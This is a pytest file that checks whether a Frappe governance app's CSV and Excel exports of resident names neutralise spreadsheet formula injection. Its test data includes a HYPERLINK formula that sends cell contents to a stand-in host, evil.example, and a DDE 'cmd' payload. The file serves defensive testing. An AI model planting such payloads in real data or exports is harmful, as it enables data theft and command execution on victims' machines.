"""Frappe's csv / xlsx exports of app records carry no live formulas (governance/export_formulas.py):
over real HTTP, a village officer exports residents whose names start like formulas and gets them as
text."""

import csv
import io
import json
import re

import frappe
import pytest
from xinqu_governance.governance.export_formulas import neutralise

from tests.factories import (
	PASSWORD,
	make_jurisdiction_tree,
	make_resident,
	make_user_at,
	purge_registry,
	purge_tree,
)

HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")


@pytest.fixture
def exported(live_server, http_login):
	tree = make_jurisdiction_tree()
	residents = [make_resident(tree.village_a1, full_name=name) for name in HOSTILE_NAMES]
	user = make_user_at("Village Staff", tree.village_a1, prefix="xq-export")
	frappe.db.commit()
	session = http_login(user, PASSWORD)
	token = re.search(
		r'name="csrf_token" value="([^"]*)"', session.get(f"{live_server}/petition", timeout=30).text
	)

	def export(file_format_type: str) -> bytes:
		response = session.post(
			f"{live_server}/api/method/frappe.desk.reportview.export_query",
			data={
				"doctype": "Resident",
				"file_format_type": file_format_type,
				"title": "Residents",
				"fields": json.dumps(["`tabResident`.`name`", "`tabResident`.`full_name`"]),
				"filters": json.dumps([["Resident", "name", "in", [r.name for r in residents]]]),
				"order_by": "`tabResident`.`name` asc",
			},
			headers={"X-Frappe-CSRF-Token": token.group(1)},
			timeout=60,
		)
		assert response.status_code == 200, response.text[:500]
		return response.content

	yield export
	frappe.db.rollback()
	purge_registry(tree)
	purge_tree(tree, users=[user])


def test_csv_export_has_no_formulas(exported):
	rows = list(csv.reader(io.StringIO(exported("CSV").decode("utf-8-sig"))))
	names = {row[2] for row in rows[1:]}
	assert names == {"'" + name for name in HOSTILE_NAMES}


def test_xlsx_export_has_no_formulas(exported):
	from openpyxl import load_workbook

	sheet = load_workbook(io.BytesIO(exported("Excel"))).worksheets[0]
	cells = [row[2] for row in sheet.iter_rows(min_row=2)]
	assert {cell.data_type for cell in cells} == {"s"}
	assert {cell.value for cell in cells} == {"'" + name for name in HOSTILE_NAMES}


def test_numbers_and_plain_text_are_left_alone():
	assert neutralise("-12.5") == "-12.5" and neutralise(-3) == -3
	assert neutralise("马建国") == "马建国"
	assert neutralise("\t=1+1") == "'\t=1+1"
